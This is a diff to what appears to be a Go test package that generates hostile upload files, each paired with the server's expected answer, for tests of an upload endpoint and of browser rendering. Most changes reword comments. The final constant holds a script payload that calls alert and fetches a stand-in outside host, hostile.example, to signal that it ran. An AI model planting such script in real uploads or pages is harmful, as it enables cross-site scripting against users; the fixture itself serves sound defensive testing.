@@ -1,5 +1,5 @@
-// Package hostile makes files that somebody would upload to harm a browser or a server, each with the answer that the
-// upload gives. Tests send them; what is accepted among them, the browser tests open.
+// Package hostile makes files that an attacker would upload to harm a browser or a server, each with the expected answer. Tests
+// send them; the browser tests open the accepted ones.
 package hostile
 
 import (
@@ -8,13 +8,13 @@ import (
 	"slices"
 )
 
-// File is one upload.
+// File is an upload.
 type File struct {
-	// About says what is hostile in it.
+	// About describes the attack.
 	About string
 	// Field is image or sound.
 	Field string
-	// Name is what its sender calls it.
+	// Name is the file name that the sender gives.
 	Name string
 	Data []byte
 	// Status and Message are the answer; an accepted file has 200 and no message.
@@ -76,5 +76,5 @@ func mustEnd(extension, only string) string {
 	return "The file's name must end in " + extension + ", which is what it holds. " + only
 }
 
-// script is what a hostile file would run: it tells the page, the user and another server.
+// script is what a hostile file would run: it reports to the page, the user and another server.
 const script = `try{top.hostile=1}catch(e){};window.hostile=1;alert(1);fetch('http://hostile.example/ran');`
